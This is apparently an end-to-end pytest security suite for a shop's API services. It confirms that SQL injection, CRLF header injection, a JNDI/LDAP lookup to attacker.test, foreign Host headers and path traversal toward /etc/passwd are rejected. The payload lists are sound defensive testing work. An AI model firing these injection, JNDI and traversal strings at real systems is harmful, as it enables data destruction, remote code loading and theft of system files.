"""Requests that try to leave their place: SQL in filters, other hosts, files beside the assets."""

import pytest

from tests.e2e.api.raw_http import Connection, Wire, stored_at_rest
from tests.kit.client import SERVICES, Shop

EVERY_SERVICE = pytest.mark.parametrize("service", SERVICES)
UUID_EXAMPLE = "7e57d004-2b97-4e7a-b45f-5387367791cd"

INJECTIONS = [
    "%27",
    "x%27%20OR%20%271%27=%271",
    "x%27;DROP%20TABLE%20outbox;--",
    "x%22%20UNION%20SELECT%20*%20FROM%20outbox--",
    "%25",
    "_",
    "%5C",
    "1);DELETE%20FROM%20outbox;--",
    "%24%7Bjndi:ldap://attacker.test/a%7D",
    "%0D%0AX-Injected:%201",
]


@EVERY_SERVICE
async def test_sql_in_a_filter_is_a_text_that_nothing_has(
    wire: Wire, shop: Shop, service: str
) -> None:
    paths = (await wire.openapi(service))["paths"]
    before = await stored_at_rest(shop)
    problems = []
    for path, operations in paths.items():
        for parameter in operations.get("get", {}).get("parameters", ()):
            if parameter["in"] == "header" or path.endswith("/events"):
                continue
            for text in INJECTIONS:
                filled = path.replace("{" + parameter["name"] + "}", text)
                query = f"?{parameter['name']}={text}" if parameter["in"] == "query" else ""
                target = "".join(_example(part) for part in filled.split("/")[1:]) + query
                answer = await wire.send(service, "GET", target)
                found = answer.body.get("items") if isinstance(answer.body, dict) else None
                if answer.status >= 500 or found or "X-Injected" in answer.headers:
                    problems.append((target, answer))
    assert problems == []
    assert await stored_at_rest(shop) == before


def _example(part: str) -> str:
    return f"/{UUID_EXAMPLE}" if part.startswith("{") else f"/{part}"


@EVERY_SERVICE
@pytest.mark.parametrize(
    "path",
    [
        *("/", "/schema", "/schema/", "//attacker.test/", "/%2F/attacker.test", "/\\attacker.test"),
        *("/api/v1//attacker.test/%2e%2e", "/health/live/", "http://attacker.test/health/live"),
    ],
)
async def test_foreign_host_leads_nowhere(shop: Shop, service: str, path: str) -> None:
    """No answer redirects, and none has what the client names as its host."""
    headers = {"Host": "attacker.test", "X-Forwarded-Host": "attacker.test"}
    async with Connection.open(shop.environment[f"{service.upper()}_URL"]) as connection:
        await connection.send("GET", path, headers=headers)
        answer = await connection.receive()
    assert not 300 <= answer.status < 400
    assert "Location" not in answer.headers
    assert "attacker.test" not in str(answer.headers)
    assert "attacker.test" not in str(answer.body)


STEPS = [
    *("..", "%2e%2e", "..%2f..", "%2e%2e%2f%2e%2e", "..%5c..", "%252e%252e"),
    *("%00", "a%00", "%0a", "%ff", "%ed%a0%80", "a" * 300, "a/" * 3000),
]


@EVERY_SERVICE
async def test_assets_are_the_only_files_that_are_served(wire: Wire, service: str) -> None:
    assert (await wire.send(service, "GET", "/schema-assets/swagger-ui.css")).status == 200
    for place in ("/schema-assets", "/schema"):
        for step in STEPS:
            for file in ("__init__.py", "/etc/passwd", "etc/passwd"):
                answer = await wire.send(service, "GET", f"{place}/{step}/{file}")
                assert answer.status in (400, 404, 405), (step, file, answer)
